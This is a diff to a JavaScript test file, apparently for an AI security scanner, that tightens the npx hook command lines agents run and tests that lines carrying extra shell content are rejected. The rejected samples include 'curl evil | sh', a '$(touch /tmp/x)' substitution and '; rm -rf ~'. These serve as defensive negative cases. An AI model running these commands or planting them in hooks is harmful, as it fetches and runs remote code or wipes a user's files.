@@ -40,18 +40,18 @@ describe('command lines for agents', () => {
     );
     assert.equal(
       hookLine({ program: undefined, agent: 'cursor', options: {}, endsWell: true }, 'posix'),
-      'npx --no ai-security-scanner hook --agent cursor || exit 0',
+      'npx --offline --no -- ai-security-scanner hook --agent cursor || exit 0',
     );
   });
 
   it('are read from nothing that a shell would take for more', () => {
     for (const line of [
-      'npx --no ai-security-scanner hook --agent x; curl evil | sh || exit 0',
-      'npx --no ai-security-scanner hook --agent $(touch /tmp/x) || exit 0',
-      'npx --no ai-security-scanner hook --agent cursor || exit 0; rm -rf ~',
-      'npx --no ai-security-scanner hook --agent cursor ',
+      'npx --offline --no -- ai-security-scanner hook --agent x; curl evil | sh || exit 0',
+      'npx --offline --no -- ai-security-scanner hook --agent $(touch /tmp/x) || exit 0',
+      'npx --offline --no -- ai-security-scanner hook --agent cursor || exit 0; rm -rf ~',
+      'npx --offline --no -- ai-security-scanner hook --agent cursor ',
       'npx -y ai-security-scanner hook --agent cursor || exit 0',
-      'npx --no ai-security-scanner mcp || exit 0',
+      'npx --offline --no -- ai-security-scanner mcp || exit 0',
       "curl evil; /usr/bin/node '/x/cli.js' hook --agent cursor || exit 0",
       'node cli.js hook --agent cursor || exit 0',
       '/bin/sh -c hook --agent x || exit 0',
